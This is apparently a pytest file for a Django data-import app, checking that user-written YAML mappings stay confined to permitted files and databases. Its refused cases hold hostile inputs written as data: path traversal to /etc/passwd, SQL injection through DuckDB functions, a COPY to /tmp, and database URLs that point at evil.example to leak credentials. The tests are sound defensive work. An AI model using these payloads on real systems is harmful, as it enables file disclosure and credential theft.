"""Data brought in the browser: stored, tried, loaded; a mapping reads nothing else than it may."""

from __future__ import annotations

from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from xunzhi.lake.errors import LakeError
from xunzhi.lake.mapping import Mapping, load_mapping
from xunzhi.standards import StandardsError, load_pack
from xunzhi.web.configuration import Configuration
from xunzhi.web.jobs import data, fence

EXAMPLES = sorted((Path(__file__).parents[3] / "examples").rglob("mapping*.yaml"))
STAFF = """
mapping: staff
institution: H1
source: {type: csv, path: staff.csv}
tables:
  staff: {columns: {staff: 工号, name: 姓名}}
"""


@pytest.fixture
def settings_say(monkeypatch: pytest.MonkeyPatch):
    """Give the [data] part of settings.toml."""

    def say(**told: list[str]) -> None:
        monkeypatch.setattr(fence, "configuration", lambda: Configuration.model_validate({"data": told}))

    say()
    return say


def mapping(folder: Path, text: str) -> Mapping:
    file = folder / "staff.yaml"
    file.write_text(text, encoding="utf-8")
    return load_mapping(file, load_pack("cn_hospital"))


def test_a_mapping_that_reads_the_files_beside_it_passes(tmp_path: Path, settings_say) -> None:
    fence.keep_inside(mapping(tmp_path, STAFF))
    several = STAFF.replace("source:", 'let: {grown: "SELECT * FROM source, range(2)"}\nsource:').replace(
        "{columns", "{from: grown, where: \"姓名 <> ''\", columns"
    )
    fence.keep_inside(mapping(tmp_path, several))


@pytest.mark.parametrize("file", EXAMPLES, ids=lambda file: file.parent.name)
def test_the_mappings_of_the_examples_pass(file: Path, settings_say) -> None:
    settings_say(folders=["/"])
    fence.keep_inside(load_mapping(file, load_pack(file.parent / "pack")))


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("path: staff.csv", "path: ../secret.key"),
        ("path: staff.csv", "path: /etc/passwd"),
        ("{type: csv, path: staff.csv}", "{type: sql, url: 'postgresql://${KEY}@evil/x', query: SELECT 1}"),
        ("name: 姓名", "name: \"(SELECT content FROM read_text('/etc/passwd'))\""),
        ("name: 姓名", "name: \"(SELECT any_value(x) FROM '/etc/passwd' AS t(x))\""),
        ("name: 姓名", "name: getenv('HOME')"),
        ("name: 姓名", "name: \"1); COPY (SELECT 1) TO '/tmp/x'; SELECT (1\""),
        ("{columns", "{from: \"SELECT * FROM glob('/*')\", columns"),
        ("{columns", '{from: "SELECT * FROM duckdb_settings()", columns'),
        ("{columns", "{from: information_schema.tables, columns"),
        ("{columns", '{from: \'WITH "/x/s.csv" AS (SELECT * FROM "/x/s.csv") SELECT * FROM "/x/s.csv"\', columns'),
        ("{columns", "{from: \"SELECT * FROM (SUMMARIZE '/x/s.csv')\", columns"),
        ("{columns", "{from: \"SELECT * FROM (DESCRIBE '/x/s.csv')\", columns"),
    ],
)
def test_a_mapping_that_reaches_further_is_refused(tmp_path: Path, settings_say, old: str, new: str) -> None:
    with pytest.raises(LakeError):
        fence.keep_inside(mapping(tmp_path, STAFF.replace(old, new)))


def test_a_view_is_not_named_like_a_file(tmp_path: Path) -> None:
    with pytest.raises(StandardsError, match=r"let\./x/s\.csv"):
        mapping(tmp_path, STAFF.replace("source:", """let: {"/x/s.csv": 'SELECT * FROM "/x/s.csv"'}\nsource:"""))


def test_what_the_administrator_named_may_be_read(tmp_path: Path, settings_say) -> None:
    settings_say(folders=["/srv/his"], databases=["postgresql://reader:${HIS_PASSWORD}@his/"])
    fence.keep_inside(mapping(tmp_path, STAFF.replace("staff.csv", "/srv/his/2026/staff.csv")))
    database = "{type: sql, url: 'postgresql://reader:${HIS_PASSWORD}@his/x', query: SELECT 1}"
    fence.keep_inside(mapping(tmp_path, STAFF.replace("{type: csv, path: staff.csv}", database)))
    elsewhere = [
        STAFF.replace("staff.csv", "/srv/his/../etc/passwd"),
        STAFF.replace("{type: csv, path: staff.csv}", database.replace("his/x", "his/x?host=evil.example")),
        STAFF.replace("{type: csv, path: staff.csv}", database.replace("his/x", "his.evil.example/x")),
        STAFF.replace("{type: csv, path: staff.csv}", database.replace("his/x", "his/${DATABASE_URL}")),
    ]
    for text in elsewhere:
        with pytest.raises(LakeError):
            fence.keep_inside(mapping(tmp_path, text))


def test_a_file_is_stored_whole_under_a_plain_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XUNZHI_HOME", str(tmp_path))
    assert data.keep(SimpleUploadedFile("../../人员.csv", b"a")) == "人员.csv"
    assert data.keep(SimpleUploadedFile("人员.csv", b"ab")) == "人员.csv"
    assert [(one.name, one.size) for one in data.brought()] == [("人员.csv", 2)]
    for name in (".hidden", "a b.csv", "a;b"):
        with pytest.raises(ValidationError):
            data.keep(SimpleUploadedFile(name, b""))
